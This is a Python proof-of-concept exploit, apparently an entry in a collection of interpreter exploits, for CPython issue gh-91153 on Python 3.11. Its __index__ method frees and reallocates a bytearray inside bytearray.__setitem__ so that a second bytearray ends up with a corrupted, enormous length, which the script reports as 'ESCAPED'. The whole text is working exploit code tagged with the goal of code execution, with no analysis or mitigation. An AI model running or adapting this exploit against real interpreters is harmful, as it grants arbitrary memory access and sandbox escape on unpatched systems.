# technique: the same by the slot wrapper of __setitem__
# goal: code
# mended: later releases
# source: CPython gh-91153
# python: 3.11
for attempt in range(200):
    keep = []

    class Evil:
        def __index__(self):
            target.clear()
            keep.append(bytearray(b'V' * 50))
            target.extend(bytes(300))
            return 0x40

    target = bytearray(48)
    bytearray.__dict__['__setitem__'](target, 23, Evil())
    if len(keep[0]) > 1 << 60:
        print('ESCAPED a bytearray of', len(keep[0]), 'bytes', flush=True)
        break
